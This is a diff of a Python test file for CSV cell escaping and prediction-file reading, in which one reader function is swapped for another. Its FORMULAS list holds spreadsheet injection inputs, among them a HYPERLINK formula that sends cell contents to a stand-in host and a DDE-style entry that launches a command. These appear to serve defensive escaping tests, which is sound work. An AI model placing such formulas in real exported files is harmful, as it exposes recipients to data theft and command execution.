@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 
 from bayesnb.files.tables.csv_cells import STARTS, as_read, as_written, line
 from bayesnb.files.tables.predictions import prediction_file
-from bayesnb.files.tables.reading import read, read_blocks
+from bayesnb.files.tables.reading import open_data, read
 
 FORMULAS = ['=HYPERLINK("http://x.y/?"&A1,"a;b")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx", " =1", "＝1",
             "'=x", "''@x", "-inf", "=1\r\n=2"]  # fmt: skip
@@ -38,7 +38,8 @@ def test_numbers_and_separators():
 def test_predictions_are_read_back_to_the_same_labels(classes, tmp_path):
     with prediction_file(tmp_path / "out.csv", classes) as write:
         write(np.eye(len(classes)))
-    (block,) = read_blocks(str(tmp_path / "out.csv"), {"prediction"})
+    data = open_data(str(tmp_path / "out.csv"))
+    (block,) = data.read(data.names, {"prediction"})
     assert block.frame["prediction"].tolist() == classes
     assert np.trace(block.frame.iloc[:, 1:].to_numpy(float)) == len(classes)
     text = (tmp_path / "out.csv").read_bytes().decode()
